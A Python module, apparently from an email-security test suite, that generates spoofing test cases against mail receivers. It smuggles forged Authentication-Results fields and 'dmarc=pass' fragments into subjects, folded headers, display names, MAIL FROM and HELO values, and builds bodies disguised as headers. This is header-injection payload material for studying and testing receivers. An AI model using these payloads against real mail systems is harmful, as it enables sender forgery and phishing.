"""Attacks with values: fields and results inside of what a stranger may choose, and bodies that look like headers."""

from collections.abc import Iterator
from itertools import cycle

from attacks import additions as texts
from attacks.attack import Attack, shown
from attacks.letters import FAIL, OWN, SILENT, SPF_ONLY, VICTIM, Additions, Letter, message
from attacks.receivers import Receiver


def _smuggled(host: str) -> Iterator[str]:
    """A field inside a value: what a repair would have to make of it."""
    field = f"Authentication-Results: {host}; {texts.FULL}"
    for gap in ("", " ", "\\n", "\\r\\n", "&#10;", "&#xA;", "<br>", "=0A", "=0D=0A", "%0A", "\r", "\x0b", "\x0c", "\udc85",
                "\udce2\udc80\udca8", "\x00", "&nbsp;", "\u0020\u0020", "    ", "\t", "|", "&quot;", '"', "> "):  # fmt: skip
        yield f"{gap}{field}"
    yield f"xxx Received: from mail.example.com ([{VICTIM}]) by {host} with ESMTP id 1; Fri, 7 Feb 2025 11:59:59 +0000 {field}"


_DAMAGE = (
    (), ("Re: x",), ("junk line",), ("X-A: &lt;&lt;&lt;&gt;&gt;&lt;a&gt;", "X-B: &lt;b&gt; &amp; &quot;c&quot;", "X-C: &lt;"),
    ("> quoted: line", "> and: more", "> of: it"), ("X-A: \udce2\udc80\udc9ca\udce2\udc80\udc9d",), ("1 X-A: b", "2 X-B: c", "3 X-C: d"),
    (" ",), ("\t",), ("X-A: b=", "=20X-C: d", "Content-Transfer-Encoding: quoted-printable"), ("<pre>",), ('{"headers": "X: y"}',),
    ("From x@example.net Fri Feb  7 12:00:00 2025",), ("X-A:", "X-B:", "b", "X-C:", "c"), ("X\udca0A: b", "X-B\udcc2\udca0: c"),
    ("    X-A: b", "    X-B: c"), ("<tr><td>X-A</td><td>b</td></tr>",), ("-----Original Message-----",), ("Header | Value", "--- | ---"),
)  # fmt: skip  # fmt: skip


def repairs(receiver: Receiver) -> Iterator[Attack]:
    """Class 5: damage in a stranger's lines turns on repairs, and a value becomes a field."""
    verdicts = cycle((SILENT, FAIL, OWN))
    hidden = cycle(_smuggled(receiver.host))
    carriers = cycle(("envelope", "subject", "folded", "name"))
    for damage in _DAMAGE:
        for _ in range(4):
            smuggled, carrier, plain = next(hidden), next(carriers), Letter(verdict=next(verdicts))
            letter, lines = plain, [f"Subject: a {smuggled}"]
            if carrier == "envelope":
                bare = smuggled.replace("\r", "").replace("\x00", "").replace("\n", "")
                letter, lines = plain._replace(mail_from=f'"xxx {bare}"@example.net'), []
            elif carrier == "folded":
                lines = [f"X-Note: a\n {smuggled}\n\t{smuggled}"]
            elif carrier == "name":
                lines = [f'Reply-To: "{smuggled}" <a@example.net>']
            yield Attack(
                f"{carrier}, {smuggled!r} with {damage}",
                message(receiver.writes(plain), plain),
                message(receiver.writes(letter), letter, Additions(below=damage, middle=lines)),
                (letter.mail_from,),
            )


def bodies(receiver: Receiver) -> Iterator[Attack]:
    """Class 5: the body looks like a paste, a mailbox or a better header."""
    letter = Letter(verdict=SILENT)
    better = message(receiver.writes(Letter(ip=VICTIM, helo="mail.example.com", verdict=OWN)), letter).decode(
        "ascii"
    )
    forged = f"Authentication-Results: {receiver.host}; {texts.FULL}\n{better}"
    bodies_ = (
        better, forged, f"\n\n{forged}", f"From a@example.net Fri Feb  7 12:00:00 2025\n{forged}", f"-----Original Message-----\n{forged}",
        "".join(f"> {line}\n" for line in forged.splitlines()), f"<pre>{forged}</pre>", forged.replace("\n", "\n\n"),
        "".join(f"    {line}\n" for line in forged.splitlines()), forged * 20, '{"headers": "Received: x"}', "\n".join(f"{n} {line}" for n, line in enumerate(forged.splitlines())),
    )  # fmt: skip
    written = receiver.writes(letter)
    for body in bodies_:
        for damage in ((), ("junk line",), (" ",)):
            yield Attack(
                f"body {body[:40]!r} with {damage}",
                message(written, letter),
                message(written, letter, Additions(below=damage, body=body)),
            )


_PASSED = "dmarc=pass header.from=example.com"
_LOCAL_PARTS = (
    f'"a) ; dkim=pass header.d=example.com; {_PASSED} ("',
    f'"a; {_PASSED}"',
    f"a;{_PASSED.replace(' ', chr(9))}",
    f"a;{_PASSED}",
    "a;dmarc=pass",
    "a;spf=pass",
    "a;dkim=pass",
    f"a;dkim=pass header.d=example.com;{_PASSED}",
    f'"a\\"; {_PASSED}; x=\\""',
    f'"a\\\\"; {_PASSED}; "',
    f'a"; {_PASSED}; "',
    f"a({_PASSED})",
    f"a(;{_PASSED}",
    f"a);{_PASSED}(",
    f'") {_PASSED} ("',
    f'"a designates {VICTIM} as permitted sender) client-ip={VICTIM}; envelope-from=boss@example.com ("',
    f'"a as permitted sender) smtp.mailfrom=boss@example.com; {_PASSED} ("',
    'boss@example.com" ',
    '"boss@example.com "',
    '"x@example.com> "',
    "boss@example.com,a",
    "boss%example.com",
    "boss@example.com;a",
    "a smtp.mailfrom=boss@example.com",
    '"a smtp.mailfrom=boss@example.com "',
    "a;spf=pass smtp.mailfrom=boss@example.com",
    '"a\tdkim=pass header.d=example.com"',
    "example.com",
    "a&quot;;dmarc=pass header.from=example.com;&quot;",
    f"=?utf-8?Q?a=3B_{_PASSED.replace('=', '=3D').replace(' ', '_')}?=",
    "a/;dmarc=pass",
    f"\udce2\udc80\udc9da; {_PASSED}",
    '"' + "a" * 900 + f'" ;{_PASSED} "',
)  # fmt: skip


def values_in_records(receiver: Receiver) -> Iterator[Attack]:
    """Class 7: results inside a value that the recipient's own checker copies into its record."""
    if message(receiver.writes(Letter())._replace(foot=()), Letter()) == message(
        receiver.writes(Letter(verdict=SILENT))._replace(foot=()), Letter()
    ):
        return
    for at, local in enumerate(_LOCAL_PARTS):
        plain = Letter(verdict=SPF_ONLY if at % 2 else OWN)
        sender = plain._replace(mail_from=f"{local}@example.net")
        null = plain._replace(mail_from="")
        helo = null._replace(helo=f"{local}.example.net")
        signer = plain._replace(identity=f"{local}@example.net", verdict=OWN)
        for what, before, letter in (
            ("MAIL FROM", plain, sender),
            ("HELO", null, helo),
            ("i=", plain._replace(verdict=OWN), signer),
        ):
            written = receiver.writes(letter, at % 3)
            yield Attack(
                f"{what} {local!r}, {letter.verdict}",
                message(receiver.writes(before, at % 3), before),
                message(written, letter),
                (*shown(receiver, letter.helo), "example.net"),
            )
